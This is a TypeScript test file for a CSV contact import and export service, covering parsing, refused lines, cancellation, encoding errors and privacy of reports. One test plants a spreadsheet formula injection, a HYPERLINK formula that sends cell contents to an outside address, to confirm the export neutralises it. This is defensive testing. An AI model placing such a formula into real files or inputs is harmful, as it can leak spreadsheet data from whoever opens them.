import fc from 'fast-check'
import { describe, expect, it, vi } from 'vitest'
import { csvOf, readCsv } from '../../src/control/import/csv.ts'
import { onEither } from '../database.ts'
import { startSim } from '../sim.ts'

interface Import {
  readonly import: string
  readonly state: string
  readonly bytes_done: number
  readonly bytes_total: number
  readonly created: number
  readonly updated: number
  readonly refused: number
  readonly lines: readonly { line: number; field: string | null; reason: string }[]
}

type Sim = Awaited<ReturnType<typeof startSim>>

async function begins({ world }: Pick<Sim, 'world'>, csv: string): Promise<Import> {
  return (await world.call('association_import.create', { account: 'acme', csv })) as Import
}

async function get({ world }: Pick<Sim, 'world'>, id: string): Promise<Import> {
  return (await world.call('association_import.get', { import: id })) as Import
}

function ends(sim: Pick<Sim, 'world'>, id: string): Promise<Import> {
  return vi.waitFor(
    async () => {
      const found = await get(sim, id)
      expect(found.state).not.toBe('running')
      return found
    },
    { timeout: 30_000, interval: 20 },
  )
}

/** With the byte order mark by which spreadsheets know UTF-8. */
async function exported({ sim }: Pick<Sim, 'sim'>): Promise<string> {
  const url = 'http://sim.localhost/_sim/v1/worlds/test/associations/export?account=acme'
  const answer = await sim.fetch(new Request(url))
  expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(answer.headers.get('content-disposition')).toContain('registrations-acme.csv')
  const bytes = Buffer.from(await answer.arrayBuffer())
  expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf')
  return bytes.toString('utf8')
}

onEither('an import', (database) => {
  it('registers every line, says which are refused and why, and names nobody in its report', async () => {
    const sim = await startSim({ database })
    const csv = [
      '\uFEFF"姓名",手机号,邮箱,note',
      '赵敏,138 0013 8009,zhao@example.com,x',
      '"周, 芷若",13800138010,,',
      '张无忌,12345,,',
      '',
      '王小雨,13800138002,wang@example.com,',
      '殷离,19900000000,,',
    ].join('\r\n')
    const { import: id, state } = await begins(sim, csv)
    expect(state).toBe('running')
    const found = await ends(sim, id)
    expect(found).toMatchObject({ state: 'done', created: 2, updated: 1, refused: 2 })
    expect(found.bytes_done).toBe(found.bytes_total)
    expect(found.lines).toMatchObject([
      { line: 4, field: 'mobile' },
      { line: 7, field: 'mobile' },
    ])
    expect(JSON.stringify(found)).not.toMatch(/12345|19900000000|张无忌/u)
    const text = await exported(sim)
    expect(text).toContain('name,mobile,email,openid,person,state,source,registered_at\r\n')
    expect(text).toContain('赵敏,+8613800138009,zhao@example.com,o')
    expect(text).toContain('"周, 芷若",+8613800138010,')
    expect(text).toContain('王小雨,+8613800138002,wang@example.com,o')
  })

  it('of an export changes nothing', async () => {
    const sim = await startSim({ database })
    const name = '=HYPERLINK("http://example.com/?"&A1)'
    await sim.world.call('association.create', { account: 'acme', mobile: '13800138009', name })
    const before = await exported(sim)
    expect(before).toContain('"\'=HYPERLINK(""http://example.com/?""&A1)",+8613800138009')
    const { import: id } = await begins(sim, before)
    expect(await ends(sim, id)).toMatchObject({ created: 0, updated: 3, refused: 0 })
    const listed = await sim.world.call('association.list', { mobile: '13800138009' })
    expect(listed).toMatchObject({ items: [{ name }] })
    expect(await exported(sim)).toBe(before)
  })

  it('is cancelled, keeps what it has registered, and lets other worlds go on', async () => {
    const sim = await startSim({ database })
    const other = await sim.sim.world({ name: 'other' })
    const mobiles = Array.from({ length: 5000 }, (_, n) => `1381${String(n).padStart(7, '0')}`)
    const { import: id } = await begins(sim, `mobile\n${mobiles.join('\n')}\n`)
    await vi.waitFor(async () => expect((await get(sim, id)).created).toBeGreaterThan(0), {
      timeout: 30_000,
      interval: 10,
    })
    expect(await other.call('account.list', {})).toMatchObject({ items: [{ key: 'acme' }] })
    expect((await get(sim, id)).state).toBe('running')
    const cancelled = await sim.world.call('association_import.cancel', { import: id })
    expect(cancelled).toMatchObject({ state: 'cancelled' })
    const { created } = (await get(sim, id)) as Import
    expect(created).toBeLessThan(5000)
    const listed = await sim.world.call('association_import.list', {})
    expect(listed).toMatchObject({ items: [{ import: id, state: 'cancelled' }] })
    expect(JSON.stringify(listed)).not.toContain('"lines"')
  })

  it.each(['', 'name,email\n赵敏,x@example.com\n', '13800138009\n'])(
    'of %j is refused: no column says the mobile',
    async (csv) => {
      const { http, world } = await startSim({ database })
      const body = JSON.stringify({ account: 'acme', csv })
      const answer = await http('POST', '/_sim/v1/worlds/test/association-imports', body)
      expect(answer).toMatchObject({ status: 422, json: { field: 'csv' } })
      expect(await world.call('association_import.list', {})).toMatchObject({ items: [] })
    },
  )
})

it('a text that was read in a wrong encoding is refused at its line, whichever column it is in', async () => {
  const { http, world } = await startSim()
  const bytes = Buffer.from([0xd5, 0xd4, 0xc3, 0xf4])
  for (const csv of [`name,mobile\n\n${bytes},13800138009\n`, `mobile,note\r\n\r\n1,\uFFFD\r\n`]) {
    const answer = await http('POST', '/_sim/v1/worlds/test/association-imports', {
      account: 'acme',
      csv,
    })
    expect(answer).toMatchObject({ status: 422, json: { field: 'csv' } })
    expect(answer.json).toMatchObject({ reason: expect.stringContaining('line 3 has U+FFFD') })
  }
  expect(await world.call('association_import.list', {})).toMatchObject({ items: [] })
})

it('an export brings people, state and source to another world, at the time of its import', async () => {
  const [sim, other] = await Promise.all([startSim(), startSim({ world: { people: [] } })])
  const left = { account: 'acme', mobile: '13800138009', name: '赵敏', state: 'unfollowed' }
  await sim.world.call('association.create', { ...left, source: 'direct_application' })
  await other.world.advance('P1D')
  const { import: id } = await begins(other, await exported(sim))
  expect(await ends(other, id)).toMatchObject({ created: 3, refused: 0 })
  const rowsOf = (csv: string) => readCsv(csv).map(({ fields }) => fields)
  const kept = (csv: string) =>
    rowsOf(csv)
      .map(([name, mobile, email, , , state, source]) => [name, mobile, email, state, source])
      .sort()
  const brought = await exported(other)
  expect(kept(brought)).toEqual(kept(await exported(sim)))
  expect(brought).toContain('unfollowed,direct_application,2026-01-06T01:00:00.000Z')
})

it('the call that brings a file is kept without it', async () => {
  const sim = await startSim()
  const { import: id } = await begins(sim, 'name,mobile\n赵敏,13800138009\n')
  await ends(sim, id)
  const { items } = (await sim.world.call('exchange.list', {})) as {
    items: { seq: number; url: string }[]
  }
  const kept = items.find(({ url }) => url.endsWith('/association-imports'))
  const seq = String(kept?.seq)
  // One line of the journal for a file: one for each of its lines would push all else out.
  expect(items.filter(({ url }) => url.includes('association'))).toEqual([kept])
  const whole = await sim.world.call('exchange.get', { seq, reveal: 'true' })
  expect(JSON.stringify(whole)).not.toContain('13800138009')
})

describe('CSV', () => {
  it('is read as it was written, whatever stands in it', () => {
    const field = fc.string({
      unit: fc.constantFrom(
        'a',
        '赵',
        '"',
        ',',
        ';',
        '\n',
        '\r',
        ' ',
        '\t',
        "'",
        '=',
        '+',
        '8',
        '-',
        '@',
      ),
    })
    const rows = fc.array(fc.array(field, { minLength: 2, maxLength: 4 }), { minLength: 1 })
    fc.assert(
      fc.property(rows, (written) => {
        const all = [['a', 'b'], ...written]
        const text = csvOf(all)
        const read = [...readCsv(text)].map(({ fields }) => fields)
        expect(read).toEqual(all.filter((row) => row.some((value) => value !== '')))
      }),
    )
  })

  it('has no field that a spreadsheet would run, to which a number with its sign is that number', () => {
    const field = fc.string({
      minLength: 1,
      unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '8', 'a'),
    })
    fc.assert(
      fc.property(field, (name) => {
        expect(csvOf([['x', name]])).not.toMatch(/^x,"?(?!\+\d+\r\n$)[=+\-@\t\r]/u)
      }),
    )
  })

  it.each([
    [
      'a,b\n1,2',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'a;b\r\n1;2\r\n',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'a\tb\r1\t2',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      '\uFEFFa,b\n\n,\n"x""y", z ',
      [
        ['a', 'b'],
        ['x"y', ' z '],
      ],
    ],
    ['"open, and never closed', [['open, and never closed']]],
  ])('%j is read as %j', (text, rows) => {
    expect([...readCsv(text)].map(({ fields }) => fields)).toEqual(rows)
  })

  it('says on which line a row begins', () => {
    expect([...readCsv('a\n"1\n2"\n\n3')].map(({ line }) => line)).toEqual([1, 2, 5])
  })
})
